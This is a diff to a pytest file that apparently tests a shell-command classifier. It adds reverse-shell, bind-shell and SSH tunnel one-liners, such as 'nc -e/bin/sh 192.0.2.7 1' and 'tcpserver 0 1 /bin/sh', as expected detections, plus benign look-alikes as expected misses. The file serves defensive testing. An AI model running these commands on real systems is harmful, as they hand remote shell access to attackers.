@@ -5,6 +5,14 @@ import pytest
 from tests.support.commands import facts_of
 
 HITS = [
+    ("nc -e/bin/sh 192.0.2.7 1", "reverse-shell"),
+    ("toybox nc 192.0.2.7 1 sh", "reverse-shell"),
+    ("websocat ws://192.0.2.7 sh-c:bash", "reverse-shell"),
+    ("tmate -F", "bind-shell"),
+    ("telnetd -l /bin/sh", "bind-shell"),
+    ("tcpserver 0 1 /bin/sh", "bind-shell"),
+    ("ssh -fNR 1:localhost:22 h", "tunnels"),
+    ("ssh -L 0.0.0.0:1:a:2 h", "tunnels"),
     ("nc -e /bin/sh h 1", "reverse-shell"),
     ("nc h 1 -c bash", "reverse-shell"),
     ("ncat --exec=/bin/sh h 1", "reverse-shell"),
@@ -40,6 +48,10 @@ HITS = [
     ("/usr/sbin/sshd -p 2222", "listens"),
 ]
 MISSES = [
+    ("ssh -L 127.0.0.1:1:a:2 h", "tunnels"),
+    ("ssh h grep -R x .", "tunnels"),
+    ("nc -h", "reverse-shell"),
+    ("tmate --help", "bind-shell"),
     ("nc -zv h 1", "reverse-shell"),
     ("nc h 1", "reverse-shell"),
     ("echo quit | telnet h 1", "sends-raw"),
